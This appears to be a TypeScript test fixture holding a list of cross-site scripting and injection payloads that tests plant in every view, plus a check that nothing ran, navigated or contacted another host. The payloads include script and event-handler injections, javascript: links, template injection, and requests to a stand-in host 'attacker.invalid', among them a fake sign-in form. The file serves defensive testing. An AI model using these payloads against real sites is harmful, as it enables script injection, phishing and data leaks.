// What agents may write into any text: each would run a script, leave the page, hide it, or ask another host for something, if a
// view took it for anything but text. Planted by the tests of every view.

import { expect } from "vitest";
import type { Watched } from "./chromium.js";

const away = "https://attacker.invalid";

export const attacks: readonly string[] = [
  `<script>window.pwned='script'</script>`,
  `<img src=x onerror="window.pwned='image'">`,
  `<svg/onload=window.pwned='svg'>`,
  `<svg><animate onbegin=window.pwned='svg' attributeName=x dur=1s>`,
  `</title></style></textarea></script><script>window.pwned='closed'</script>`,
  `"><script>window.pwned='quoted'</script>`,
  `" autofocus onfocus="window.pwned='attribute'" x="`,
  `' onmouseover='window.pwned=1' style='position:fixed;inset:0`,
  `<input autofocus onfocus=window.pwned='focus'>`,
  `<details open ontoggle=window.pwned='details'>`,
  `<iframe srcdoc="<script>parent.pwned='frame'</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>`,
  `<a href="javascript:window.pwned='link'">open</a>`,
  `javascript:window.pwned='address'`,
  `data:text/html,<script>window.pwned='data'</script>`,
  `[open](javascript:window.pwned='markdown')`,
  `![picture](${away}/markdown.png)`,
  `<img src="${away}/image.png">`,
  `<link rel=stylesheet href=${away}/a.css>`,
  `<style>@import "${away}/a.css"; body{display:none}</style>`,
  `<base href="${away}/">`,
  `<meta http-equiv=refresh content="0;url=${away}/">`,
  `<form action="${away}/"><button>Sign in again</button></form>`,
  `${away}/address`,
  `//attacker.invalid/address`,
  `url(${away}/style.png)`,
  `&lt;img src=x onerror=window.pwned='entities'&gt;`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for somebody else's template.
  "${window.pwned='template'}{{constructor.constructor('window.pwned=1')()}}",
  `'];window.pwned='code';//`,
  "__proto__",
  "constructor",
  "\u202eexe.gnp\u2066",
  "one\u2028window.pwned='line'\u2029",
];

/** All of them, for fields that take long texts. */
export const attackText = attacks.join("\n");

/** Those that a short name may be: titles, labels, names of agents. */
export const attackWords: readonly string[] = attacks.filter(({ length }) => length <= 128);

/** Nothing ran, nothing was made of it, nobody was asked. `url` is the server's. */
export async function expectHarmless({ page, troubles, hosts }: Watched, url: string): Promise<void> {
  const { origin, host } = new URL(url);
  expect(await page.evaluate("String(window.pwned)")).toBe("undefined");
  expect(new URL(page.url()).origin).toBe(origin);
  expect(await page.evaluate(`(${elementsMade})(${JSON.stringify(origin)})`)).toEqual([]);
  expect(troubles).toEqual([]);
  expect([...hosts]).toEqual([host]);
}

/** Runs on the page: elements and addresses that no view of ours makes. */
const elementsMade = `(origin) => {
  const all = [...document.querySelectorAll("#root *")];
  const foreign = "script, style, iframe, object, embed, base, meta, link, math, table mglyph, [srcdoc]";
  const isStrange = (element) =>
    element.matches(foreign) ||
    [...element.attributes].some(({ name }) => name.startsWith("on")) ||
    [element.href, element.src, element.action].some(
      (address) => typeof address === "string" && address !== "" && !address.startsWith(origin + "/"),
    );
  return all.filter(isStrange).map((element) => element.outerHTML.slice(0, 200));
}`;
